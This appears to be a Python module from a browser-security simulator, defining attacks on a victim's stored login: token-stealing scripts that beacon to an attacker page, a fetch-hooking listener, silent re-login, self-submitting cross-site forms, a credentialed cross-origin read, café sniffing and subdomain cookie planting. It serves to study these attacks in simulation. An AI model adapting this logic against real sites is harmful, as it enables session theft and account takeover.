"""Attacks on a login that is kept in a browser. Each is a function of a town.

They stay in this model: the script, the foreign page and the listener are all functions here.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from simulator.actors.messages import Request
from simulator.browser.browser import Page
from simulator.browser.codes import Errand
from simulator.browser.cors import Blocked
from simulator.browser.jar import read_cookies
from simulator.browser.login_site import FILMS, LOGIN
from simulator.browser.mallory import ADDRESS, HERS
from simulator.browser.town import PLAIN, SISTER, Town

SCRIPT, OUTSIDE = "a script in Ada's page", "from outside"
TOKENS = ("access_token", "refresh_token")
FORM = {"address": ADDRESS}


@dataclass(frozen=True)
class Attack:
    """What is done to Ada's browser, from where, and when."""

    name: str
    place: str
    act: Callable[[Town], None]
    at: float = 720.0
    """Seconds after Ada's login."""
    patient: bool = False
    """Whether Mallory waits with what she has until Ada has closed the page."""
    again: bool = False
    """Whether it is done every minute, as long as the page is open."""


def the_page(town: Town) -> Page:
    """The page that the script got into."""
    assert town.page is not None
    return town.page


def readable(page: Page) -> dict[str, str]:
    """Every credential that a script can read in this page."""
    stores = {**page.memory, **page.local_storage}
    found = {name: stores[name] for name in TOKENS if name in stores}
    return found | ({"cookie": page.cookie} if page.cookie else {})


def read(town: Town) -> None:
    """Read whatever can be read, and send it away."""
    page = the_page(town)
    page.beacon(HERS, readable(page))


def listen(town: Town) -> None:
    """Take the place of `fetch`; hear every request, and read again whatever can be read."""
    page = the_page(town)

    def hear(request: Request) -> None:
        scheme, _, token = request.headers.get("Authorization", "").partition(" ")
        heard = {"access_token": token} if scheme == "Bearer" else {}
        page.beacon(HERS, heard | readable(page))

    page.listeners.append(hear)


def log_in_anew(town: Town) -> None:
    """Begin a login of its own. The auth server knows Ada's browser, and asks for no password."""
    page, errand = the_page(town), Errand(town.random, town.way.client_id)
    try:
        form = errand.end(page.look_into(page.follow(errand.start)))
        answer = page.fetch(f"{LOGIN}/token", "POST", form or {})
    except Blocked:
        return
    if answer.ok:
        page.beacon(HERS, {name: answer.body[name] for name in TOKENS})


def ride(town: Town) -> None:
    """Read nothing: call the app's own functions."""
    app = the_page(town).app
    assert app is not None
    app.ask("POST", "/api/address", FORM)


def foreign_form(town: Town) -> None:
    """Ada opens Mallory's page, and a form in it submits itself."""
    town.browser.open(HERS).submit(f"{FILMS}/api/address", FORM)


def sister_form(town: Town) -> None:
    """The same from a sister of the site, where somebody let Mallory write."""
    town.browser.open(SISTER).submit(f"{FILMS}/api/address", FORM)


def foreign_read(town: Town) -> None:
    """A script in Mallory's page asks for Ada's films, cookies included, and reads the answer."""
    page = town.browser.open(HERS)
    try:
        answer = page.fetch(f"{FILMS}/api/films", credentials="include")
    except Blocked:
        return
    page.beacon(HERS, {"read": answer.body.get("user", "")})


def overhear(town: Town) -> None:
    """Ada sits in a café, and a page sends her browser to the site without TLS."""
    town.browser.open(HERS).follow(f"{PLAIN}/")
    for header in town.overheard:
        town.mallory.take({"cookie": header})


def plant(town: Town) -> None:
    """A script on the sister sets Mallory's own cookies for all of the site."""
    sister = town.browser.open(SISTER)
    for name, value in read_cookies(town.cookies_of_mallory()).items():
        sister.set_cookie(f"{name}={value}; Domain=films.example; Path=/api; Secure")


ATTACKS = (
    Attack("script reads once", SCRIPT, read),
    Attack("script listens, Mallory waits", SCRIPT, listen, patient=True),
    Attack("script logs in anew", SCRIPT, log_in_anew, patient=True),
    Attack("script acts in the page", SCRIPT, ride, again=True),
    Attack("foreign form, 1 min after login", OUTSIDE, foreign_form, at=60.0),
    Attack("foreign form, 12 min after", OUTSIDE, foreign_form),
    Attack("form on a sister subdomain", OUTSIDE, sister_form),
    Attack("foreign script reads films", OUTSIDE, foreign_read),
    Attack("listener in the café", OUTSIDE, overhear),
    Attack("sister plants a cookie", OUTSIDE, plant),
)
